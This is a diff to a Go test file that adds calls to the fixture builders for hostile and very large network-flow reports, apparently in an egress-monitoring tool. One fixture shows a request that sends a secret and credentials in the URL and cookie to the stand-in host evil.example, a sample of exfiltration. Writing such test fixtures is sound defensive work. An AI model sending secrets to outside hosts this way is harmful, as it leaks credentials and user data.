@@ -241,6 +241,7 @@ func hostileWith(bad string) *Report {
 			Notes:   []string{bad},
 		},
 	}
+	hostileSent(r, bad)
 	r.Flows = each(
 		flowtest.Get("https://user:hunter2@evil.example/?q="+secret, flowtest.Asked("evil.example:443"), flowtest.Host("evil.example"), flowtest.UserAgentOf(bad), flowtest.Header("Cookie", "a=hunter2"),
 			flowtest.ResponseBody("text/html", strings.ToValidUTF8(bad, "?"))),
@@ -401,5 +402,6 @@ func huge(n int) *Report {
 	}
 	r.Policy.Name = long
 	r.Summary.Flows = n
+	manySent(r, n, func(i int) string { return fmt.Sprintf("sent-%05d.example", i) }, long)
 	return r
 }
